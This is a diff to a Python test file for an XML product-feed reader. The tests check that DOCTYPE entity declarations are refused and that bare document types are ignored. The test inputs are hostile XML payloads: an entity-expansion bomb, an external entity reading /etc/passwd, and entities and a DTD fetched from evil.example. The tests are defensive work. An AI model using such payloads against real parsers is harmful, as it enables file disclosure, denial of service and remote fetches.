@@ -81,9 +81,7 @@ BOMB = '<!DOCTYPE x [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;">]>'
     [
         BOMB,
         '<!DOCTYPE x [<!ENTITY a SYSTEM "file:///etc/passwd">]>',
-        '<!DOCTYPE x SYSTEM "https://evil.example/x.dtd">',
         '<!DOCTYPE x [<!ENTITY % p SYSTEM "https://evil.example/x"> %p;]>',
-        "<!DOCTYPE rss>",
     ],
 )
 def test_xml_that_declares_anything_is_refused(tmp_path: Path, declaration: str) -> None:
@@ -91,6 +89,12 @@ def test_xml_that_declares_anything_is_refused(tmp_path: Path, declaration: str)
     with pytest.raises(FeedError) as caught:
         read_feed(written(tmp_path / "f", text))
     assert caught.value.code == "unsafe-xml" and "DOCTYPE" in caught.value.fix
+
+
+@pytest.mark.parametrize("doctype", ['<!DOCTYPE x SYSTEM "https://evil.example/x.dtd">', "<!DOCTYPE rss>"])
+def test_a_document_type_without_declarations_is_passed_over(tmp_path: Path, doctype: str) -> None:
+    text = rss("<g:id>1</g:id><g:image_link>1.jpg</g:image_link>").replace("<rss", f"{doctype}<rss", 1)
+    assert [one.id for one in outcome(written(tmp_path / "f", text)).products] == ["1"]
 
 
 def test_xml_that_breaks_off_is_refused_as_a_whole(tmp_path: Path) -> None:
